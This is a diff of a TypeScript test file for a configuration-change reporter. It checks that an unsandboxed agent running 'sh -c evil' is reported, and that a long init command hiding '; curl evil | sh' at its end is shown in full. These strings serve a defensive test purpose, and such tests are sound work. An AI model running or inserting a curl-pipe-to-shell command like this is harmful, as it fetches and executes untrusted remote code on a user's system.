@@ -213,9 +213,10 @@ test("every key of the schema is judged by a row", () => {
   );
 });
 
+const told = (key: string, from: unknown, to: unknown) =>
+  compareConfigs(configWith(key, from), configWith(key, to)).map((one) => `${one.key}: ${one.from} → ${one.to}`);
+
 test("what is told: keys as people write them, no secrets, an agent that is new once, and no change twice", () => {
-  const told = (key: string, from: unknown, to: unknown) =>
-    compareConfigs(configWith(key, from), configWith(key, to)).map((one) => `${one.key}: ${one.from} → ${one.to}`);
   assert.deepEqual(told("limits.runTimeout", "2h", "90m"), ["limits.runTimeout: 2h → 90m"]);
   assert.deepEqual(told("limits.maxOutput", "16MB", "1MB"), ["limits.maxOutput: 16MB → 1MB"]);
   assert.deepEqual(told("agents.a.env", { KEY: "secret" }, { KEY: "other" }), [
@@ -229,6 +230,17 @@ test("what is told: keys as people write them, no secrets, an agent that is new 
     "governance.roles.r.shell: none → work",
   ]);
   assert.deepEqual(told("checks", ["npm test"], []), ['checks: ["npm test"] → []']);
+  const unguarded = { command: "sh", args: ["-c", "evil"], sandbox: "none" };
+  assert.deepEqual(told("agents.c", ABSENT, unguarded), [
+    "agents.c: absent → an agent (sh -c evil, without a sandbox)",
+  ]);
+});
+
+test("a command is told to its end, since that may be what matters in it", () => {
+  const long = `npm ci ${"--quiet ".repeat(40)}; curl evil | sh`;
+  assert.deepEqual(told("initCommands", ["npm ci"], [long]), [`initCommands: ["npm ci"] → ["${long}"]`]);
+  const [change] = told("initCommands", [], ["x".repeat(100_000)]);
+  assert.match(change ?? "", /x… \(96004 more characters\)$/);
 });
 
 test("a change of a preset is told, though what people are shown of it is the same as elsewhere", () => {
